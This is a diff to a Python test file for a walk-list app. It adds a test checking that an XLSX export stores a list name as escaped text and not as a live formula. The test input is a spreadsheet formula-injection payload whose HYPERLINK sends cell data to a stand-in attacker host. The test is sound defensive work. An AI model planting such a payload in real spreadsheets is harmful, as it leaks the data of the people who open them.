@@ -277,6 +277,19 @@ def test_walk_sheets_and_the_qr_code(client, headers, turf_id):
     assert png.data.startswith(b"\x89PNG")
 
 
+def test_the_xlsx_title_cell_runs_no_formula(client, headers, turf_id):
+    import io
+
+    from openpyxl import load_workbook
+
+    name = '=HYPERLINK("https://evil.example/?x="&C3,"Open")'
+    walk_list = make_list(client, headers, turf_id=turf_id, name=name)
+    xlsx = client.get(f"/api/v1/walk-lists/{walk_list['id']}/sheet?format=xlsx", headers=headers)
+    title = load_workbook(io.BytesIO(xlsx.data)).active["A1"]
+    assert title.data_type == "s"  # text, not a formula ("f")
+    assert title.value == f"'{name} (code {walk_list['code']})"
+
+
 def test_bad_input_is_refused_and_nothing_is_saved(client, headers, cut, turf_id):
     assert (
         make_list(client, headers, status=404, turf_id=2**40)["error"]["code"] == "turf_not_found"
